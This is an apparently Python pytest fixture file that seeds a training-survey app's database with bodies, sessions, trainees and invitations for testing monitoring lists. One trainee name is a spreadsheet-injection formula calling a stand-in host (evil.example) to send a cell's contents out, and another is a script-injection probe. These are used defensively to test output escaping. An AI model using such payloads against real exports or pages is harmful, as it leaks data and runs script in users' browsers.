"""Random invitations in two régions, for the lists' tests: every status, several
campaigns, bodies, sessions and funders; trainees with names found nowhere else, one
named like a spreadsheet formula and one like a script."""

from __future__ import annotations

import datetime as dt
import itertools
import json
import random
from dataclasses import dataclass, field

import pandas as pd
import pytest
import sqlalchemy as sa
from flask import Flask

from avis import clock
from avis.accounts.models import Account, Role
from avis.catalog.models.courses import Action, Course
from avis.catalog.models.sessions import Session
from avis.catalog.models.trainees import Enrolment, Trainee
from avis.catalog.models.training_bodies import TrainingBody
from avis.db import db
from avis.monitoring.lists import STATUSES, ListKind
from avis.surveys.models.invitations import Invitation, InvitationKind, InvitationStatus
from tests.accounts.fixtures import create_account
from tests.catalog.fixtures import make_siret

#: A trainee's name a spreadsheet would run, and one a browser would.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
SCRIPT = "<script>alert('liste')</script>"

#: (key, name, région, département, postcode, city, funders of its sessions)
BODIES = [
    ("nantes", "Organisme Listes Nantes", "52", "44", "44000", "Nantes", [2]),
    ("angers", "Organisme Listes Angers", "52", "49", "49000", "Angers", [4]),
    ("laval", "Organisme Listes Laval", "52", "53", "53000", "Laval", [2, 4]),
    ("paris", "Organisme Listes Paris", "11", "75", "75011", "Paris", [2]),
]
#: Campaigns by région; "Campagne commune" exists in both.
CAMPAIGNS = {"52": ["Campagne Loire 2026", "Campagne commune"],
             "11": ["Campagne Seine 2026", "Campagne commune"]}

#: (role, scope options) of the world's staff accounts.
ACCOUNTS = {
    "admin": (Role.admin, {}),
    "region_52": (Role.region, {"region": "52"}),
    "region_52_ft": (Role.region, {"region": "52", "funders": (4,)}),
    "region_11": (Role.region, {"region": "11"}),
    "moderator_52": (Role.moderator, {"region": "52"}),
}


@dataclass
class ListsWorld:
    #: body key → (id, siret)
    bodies: dict[str, tuple[int, str]]
    #: session ids by body key
    sessions: dict[str, list[int]]
    #: account key → (id, email)
    accounts: dict[str, tuple[int, str]]
    #: every trainee's (email, last name, first name) by région
    trainees: dict[str, list[tuple[str, str, str]]] = field(default_factory=dict)


_worlds = itertools.count()


def build(seed: int = 13, per_session: int = 9, *, accounts: bool = True) -> ListsWorld:
    """The world, committed (in an app context); built again, it adds other bodies and
    trainees (and no accounts unless asked)."""
    rng = random.Random(seed)
    now = clock.now()
    world = ListsWorld(bodies={}, sessions={}, accounts={}, trainees={"52": [], "11": []})
    n = next(_worlds)
    number = n * 10_000
    for key, name, region, departement, postcode, city, funders in BODIES:
        siret = make_siret(60_000_000 + n * 10_000 + len(world.bodies) * 1_111)
        body = TrainingBody(siret=siret, siren=siret[:9], name=name)
        course = Course(numero=f"L-F-{key}-{n}", title=f"Cours listes {key}", formacodes=[],
                        certifinfos=[])
        db.session.add_all([body, course])
        db.session.flush()
        action = Action(course_id=course.id, numero=f"L-A-{key}-{n}", training_body_id=body.id,
                        responsible_body_id=body.id)
        db.session.add(action)
        db.session.flush()
        world.bodies[key] = (body.id, siret)
        world.sessions[key] = []
        for s in range(3):
            end = clock.today() - dt.timedelta(days=20 + 30 * s)
            session = Session(action_id=action.id, external_id=f"L-S-{key}-{n}-{s}",
                              numero=f"{s}", start_date=end - dt.timedelta(days=60),
                              end_date=end, postcode=postcode, city=city,
                              departement=departement, region_code=region,
                              funders=list(funders))
            db.session.add(session)
            db.session.flush()
            world.sessions[key].append(session.id)
            for _ in range(per_session):
                number += 1
                last, first = f"Nomliste{number}", f"Prenomliste{number}"
                first_one = number % 10_000 == 1
                if first_one:
                    last, first = FORMULA, SCRIPT
                email = f"personne{number}@listes.example"
                trainee = Trainee(email=email, last_name=last, first_name=first)
                db.session.add(trainee)
                db.session.flush()
                enrolment = Enrolment(trainee_id=trainee.id, session_id=session.id,
                                      campaign=rng.choice(CAMPAIGNS[region]))
                db.session.add(enrolment)
                db.session.flush()
                status = InvitationStatus.opened if first_one \
                    else rng.choice(list(InvitationStatus))
                sent = status not in (InvitationStatus.pending, InvitationStatus.failed) \
                    and not (status == InvitationStatus.expired and rng.random() < 0.3)
                db.session.add(Invitation(
                    enrolment_id=enrolment.id, kind=InvitationKind.end_of_training,
                    status=status, created_dt=now, expires_dt=now + dt.timedelta(days=90),
                    status_dt=now, first_sent_dt=now - dt.timedelta(days=3) if sent else None))
                if rng.random() < 0.5:
                    # A follow-up of any status: never in the lists.
                    db.session.add(Invitation(
                        enrolment_id=enrolment.id, kind=InvitationKind.follow_up,
                        status=rng.choice(list(InvitationStatus)), created_dt=now,
                        expires_dt=now + dt.timedelta(days=90), status_dt=now,
                        first_sent_dt=now))
                world.trainees[region].append((email, last, first))
    db.session.commit()
    for key, (role, options) in ACCOUNTS.items() if accounts else ():
        account = create_account(role, f"{key}@listes-comptes.example", **options)
        world.accounts[key] = (account.id, account.email)
    return world


@pytest.fixture
def lists_world(app: Flask) -> ListsWorld:
    with app.app_context():
        return build()


def grant(app: Flask, world: ListsWorld, key: str) -> None:
    """Give an account the permission directly (the page that does it has its test)."""
    with app.app_context():
        account = db.session.get(Account, world.accounts[key][0])
        assert account is not None
        account.can_see_personal_data = True
        db.session.commit()


# --- What the lists should hold, counted by pandas from the raw tables --------------

def expected_members(kind: ListKind, *, region: str | None = None,
                     funders: tuple[int, ...] = ()) -> pd.DataFrame:
    """One row per member of the list (campaign, body id, session id, email), read
    with plain SQL and filtered by pandas: the rules of the lists, written again."""
    connection = db.session.connection()
    frame = pd.read_sql(sa.text(
        "SELECT i.status, i.kind, i.first_sent_dt, e.campaign, e.session_id, "
        "s.region_code, s.funders, a.training_body_id AS body_id, t.email, t.erased_dt "
        "FROM invitations i JOIN enrolments e ON e.id = i.enrolment_id "
        "JOIN sessions s ON s.id = e.session_id JOIN actions a ON a.id = s.action_id "
        "JOIN trainees t ON t.id = e.trainee_id"), connection)
    frame = frame[frame["kind"] == "end_of_training"]
    frame = frame[frame["erased_dt"].isna()]
    frame = frame[frame["status"].isin([str(status) for status in STATUSES[kind]])]
    if kind == ListKind.non_respondents:
        frame = frame[frame["first_sent_dt"].notna()]
    if region is not None:
        frame = frame[frame["region_code"] == region]
    if funders:
        codes = frame["funders"].map(lambda v: json.loads(v) if isinstance(v, str) else v)
        frame = frame[codes.map(lambda listed: bool(set(listed) & set(funders)))]
    return frame
